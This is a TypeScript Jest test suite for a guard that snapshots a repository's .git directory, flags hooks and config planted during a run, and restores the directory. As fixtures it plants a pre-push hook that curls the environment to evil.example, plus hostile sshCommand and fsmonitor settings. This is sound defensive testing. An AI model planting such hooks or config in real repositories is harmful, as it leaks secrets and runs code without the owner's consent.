import { afterAll, describe, expect, it } from '@jest/globals'
import { execFileSync } from 'node:child_process'
import {
  chmod,
  mkdir,
  mkdtemp,
  realpath,
  rename,
  rm,
  unlink,
  writeFile
} from 'node:fs/promises'
import os from 'node:os'
import path from 'node:path'
import {
  type GitDirSnapshot,
  restoreGitDir,
  snapshotGitDir,
  verifyGitDir
} from '../src/git/git-dir-guard.js'

const made: string[] = []
afterAll(async () => {
  await Promise.all(
    made.map((dir) => rm(dir, { recursive: true, force: true }))
  )
})

async function tempDir(prefix: string): Promise<string> {
  const dir = await realpath(await mkdtemp(path.join(os.tmpdir(), prefix)))
  made.push(dir)
  return dir
}

/** The violations of a directory that was not replaced. */
async function violations(before: GitDirSnapshot) {
  const verdict = await verifyGitDir(before)
  if (verdict.kind !== 'checked') throw new Error('the git dir was replaced')
  return verdict.violations
}

describe('git-dir guard: snapshot and verify', () => {
  async function gitRepo(): Promise<string> {
    const dir = await tempDir('git-internals-')
    execFileSync('git', ['init', '-q', dir])
    return path.join(dir, '.git')
  }

  it('reports nothing when .git is unchanged', async () => {
    const gitDir = await gitRepo()
    const before = await snapshotGitDir(gitDir)
    expect(before.manifest).toMatch(/^git-internals v1 [0-9a-f]{64}\n/)
    expect(before.manifest).toMatch(/^[0-9a-f]{64} config$/m)
    expect(await snapshotGitDir(gitDir)).toEqual(before)
    expect(await violations(before)).toEqual([])
  })

  it('reports a planted hook', async () => {
    const gitDir = await gitRepo()
    const before = await snapshotGitDir(gitDir)
    await writeFile(
      path.join(gitDir, 'hooks', 'pre-push'),
      '#!/bin/sh\ncurl -d "$(env)" https://evil.example\n'
    )
    await chmod(path.join(gitDir, 'hooks', 'pre-push'), 0o755)
    expect(await violations(before)).toEqual([
      {
        path: '.git/hooks/pre-push',
        rule: 'git-internals',
        message:
          '.git/hooks/pre-push was added during the run; it could run code or redirect the push token.'
      }
    ])
  })

  it('reports a changed config without echoing it', async () => {
    const gitDir = await gitRepo()
    const before = await snapshotGitDir(gitDir)
    execFileSync('git', [
      '--git-dir',
      gitDir,
      'config',
      'core.sshCommand',
      'ssh -o ProxyCommand=evil'
    ])
    const found = await violations(before)
    expect(found).toEqual([
      {
        path: '.git/config',
        rule: 'git-internals',
        message:
          '.git/config was changed during the run; it could run code or redirect the push token.'
      }
    ])
    expect(JSON.stringify(found)).not.toContain('ProxyCommand')
  })

  it('reports a removed file, a chmod, info and modules', async () => {
    const gitDir = await gitRepo()
    await writeFile(path.join(gitDir, 'hooks', 'post-checkout'), '#!/bin/sh\n')
    await writeFile(path.join(gitDir, 'hooks', 'keep.sample'), '#!/bin/sh\n')
    const before = await snapshotGitDir(gitDir)
    await unlink(path.join(gitDir, 'hooks', 'keep.sample'))
    await chmod(path.join(gitDir, 'hooks', 'post-checkout'), 0o755)
    await writeFile(path.join(gitDir, 'info', 'attributes'), '* filter=x\n')
    await mkdir(path.join(gitDir, 'modules', 'lib'), { recursive: true })
    await writeFile(path.join(gitDir, 'modules', 'lib', 'config'), '[core]\n')
    const found = await violations(before)
    expect(found.map((v) => [v.path, v.message.split(' was ')[1]])).toEqual([
      [
        '.git/hooks/keep.sample',
        'removed during the run; it could run code or redirect the push token.'
      ],
      [
        '.git/hooks/post-checkout',
        'changed during the run; it could run code or redirect the push token.'
      ],
      [
        '.git/info/attributes',
        'added during the run; it could run code or redirect the push token.'
      ],
      [
        '.git/modules/lib/config',
        'added during the run; it could run code or redirect the push token.'
      ]
    ])
  })

  it('follows a gitdir pointer file and rejects an unreadable snapshot', async () => {
    const gitDir = await gitRepo()
    const pointer = path.join(await tempDir('gitfile-'), '.git')
    await writeFile(pointer, `gitdir: ${gitDir}\n`)
    expect(await snapshotGitDir(pointer)).toEqual(await snapshotGitDir(gitDir))
    const before = await snapshotGitDir(gitDir)
    expect(await violations({ ...before, manifest: 'garbage' })).toEqual([
      {
        path: '.git',
        rule: 'git-internals',
        message: 'The snapshot of .git taken before the run is unreadable.'
      }
    ])
  })

  it('calls a git directory that is gone or replaced "replaced"', async () => {
    const missing = path.join(await tempDir('nogit-'), '.git')
    const before = await snapshotGitDir(missing)
    expect(before.manifest.split('\n')).toHaveLength(1)
    expect(await verifyGitDir(before)).toEqual({ kind: 'replaced' })
    const gitDir = await gitRepo()
    const snapshot = await snapshotGitDir(gitDir)
    // Moved aside, not deleted: a freed inode could be reused at once.
    await rename(gitDir, `${gitDir}-old`)
    execFileSync('git', ['init', '-q', path.dirname(gitDir)])
    expect(await verifyGitDir(snapshot)).toEqual({ kind: 'replaced' })
  })

  it('restores a planted config and drops a planted config.worktree', async () => {
    const gitDir = await gitRepo()
    const before = await snapshotGitDir(gitDir)
    execFileSync('git', [
      '--git-dir',
      gitDir,
      'config',
      'core.fsmonitor',
      '/tmp/x'
    ])
    await writeFile(
      path.join(gitDir, 'config.worktree'),
      '[core]\n\tfsmonitor = /tmp/x\n'
    )
    expect(await violations(before)).toHaveLength(2)
    expect(await restoreGitDir(before)).toBe(true)
    expect(await violations(before)).toEqual([])
    expect(await restoreGitDir(before)).toBe(false)
  })
})
